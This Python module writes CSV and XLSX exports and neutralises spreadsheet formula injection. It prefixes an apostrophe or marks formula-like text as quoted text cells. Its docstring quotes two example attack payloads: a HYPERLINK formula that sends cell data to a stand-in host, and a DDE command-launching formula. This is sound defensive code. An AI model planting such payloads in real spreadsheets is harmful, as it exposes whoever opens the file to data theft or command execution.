"""The spreadsheets the product writes (CSV and XLSX), with text a spreadsheet would run neutralised.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a line
break, or the full-width ``＝ ＋ － ＠`` some spreadsheets also accept) is read by
Excel, LibreOffice and Google Sheets as a formula: a payee such as
``=HYPERLINK("https://evil.example?d="&A1, "refund")`` or ``=cmd|' /C calc'!A0``
would run on the machine of whoever opens the file ("CSV injection"). Every
spreadsheet the product writes goes through this module, so no user text is a
formula:

* **CSV** (:func:`csv_bytes`): such text is prefixed with an apostrophe, the
  mark every spreadsheet reads as "this cell is text" (OWASP's advice). The
  cell then reads ``'=HYPERLINK(…)``; a reader of the file that is not a
  spreadsheet sees the apostrophe.
* **XLSX** (:func:`xlsx_bytes`): such text is stored as a text cell with the
  "quote prefix" style, exactly as typed: never a formula, and shown without
  the apostrophe.

Numbers are left alone: ``-12.50`` written as text is a negative amount, not a
formula, and stays as it is in both formats (so do ``int``/``Decimal`` values).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

# What a spreadsheet takes for the start of a formula (or, for tab and line breaks, what it strips before looking).
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
# A plain number, possibly signed: text a spreadsheet reads as that number, never as a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (leading spaces are looked past)."""
    stripped = text.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return _NUMBER.fullmatch(stripped) is None


def safe_text(text: str) -> str:
    """``text`` as a CSV cell: an apostrophe in front when a spreadsheet would run it."""
    return f"'{text}" if is_formula_like(text) else text


def safe_cell(value: Any) -> Any:
    """A value for a CSV cell: ``None`` is empty, text is :func:`safe_text`, anything else as it is."""
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    return value


def csv_bytes(rows: Sequence[Mapping[str, Any]], columns: Sequence[str] | None = None) -> bytes:
    """A UTF-8 CSV file of ``rows``: a header line, then one line per row (RFC 4180: CRLF line ends, and
    fields holding a comma, a quote or a line break quoted).

    ``columns`` defaults to every key, in order of first appearance. Header names
    go through the same neutralising as the cells.
    """
    if columns is None:
        names: dict[str, None] = {}
        for row in rows:
            names.update(dict.fromkeys(row))
        columns = list(names)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_text(str(name)) for name in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) for name in columns])
    return out.getvalue().encode()


_XLSX_TYPES = (int, float, Decimal, datetime, date, time, bool)


def xlsx_bytes(sheets: Mapping[str, Iterable[Sequence[Any]]]) -> bytes:
    """An XLSX workbook: sheet title → rows (each a sequence of cell values, the first usually the header).

    Text is always a text cell, never a formula (openpyxl would otherwise store
    text starting with ``=`` as one); formula-looking text also gets the quote
    prefix style, so a person editing the cell does not turn it into a formula.
    Numbers, decimals, dates and booleans are typed cells; ``None`` is empty;
    anything else is written as its text.
    """
    # Imported here: only callers that write workbooks pay for openpyxl (as the imports' reader does).
    from openpyxl import Workbook
    from openpyxl.cell.cell import TYPE_STRING

    workbook = Workbook(write_only=False)
    workbook.remove(workbook.active)  # type: ignore[arg-type]
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title=title[:31])
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = sheet.cell(row=r, column=c)
                if isinstance(value, _XLSX_TYPES) and not (isinstance(value, datetime) and value.tzinfo is not None):
                    cell.value = value
                    continue
                # Text, and times with an offset (a workbook has no time zones): the ISO 8601 text keeps the offset.
                text = value.isoformat() if isinstance(value, datetime) else str(value)
                # Assigning text that starts with "=" makes openpyxl store a formula: set the text and its type.
                cell._value = text  # openpyxl offers no public way to store such text as text
                cell.data_type = TYPE_STRING
                if is_formula_like(text):
                    cell.quotePrefix = True
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
